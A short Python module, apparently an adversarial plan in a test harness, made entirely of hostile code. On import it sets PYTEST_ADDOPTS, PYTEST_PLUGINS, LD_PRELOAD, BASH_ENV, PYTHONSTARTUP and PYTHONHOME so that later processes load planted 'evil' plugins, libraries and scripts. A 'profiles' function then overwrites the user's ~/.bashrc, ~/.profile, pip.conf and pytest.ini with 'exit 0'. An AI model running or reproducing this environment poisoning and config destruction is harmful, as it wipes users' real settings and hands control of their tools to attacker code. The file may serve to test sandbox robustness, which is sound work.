import os

from . import _kit

for name, value in (("PYTEST_ADDOPTS", "-p evil"), ("PYTEST_PLUGINS", "evil"), ("PYTHONPATH", os.path.dirname(__file__)), ("PYTHONSTARTUP", __file__),
                    ("PYTHONINSPECT", "1"), ("LD_PRELOAD", "/tmp/evil.so"), ("BASH_ENV", "/tmp/evil.sh"), ("PYTHONHOME", "/tmp")):
    os.environ[name] = value


@_kit.plan
def profiles():
    for path in ("~/.bashrc", "~/.profile", "~/.pythonrc.py", "~/.config/pip/pip.conf", "~/pytest.ini"):
        try:
            path = os.path.expanduser(path)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write("exit 0\n")
        except OSError as error:
            _kit.say(f"{path}: {error}")
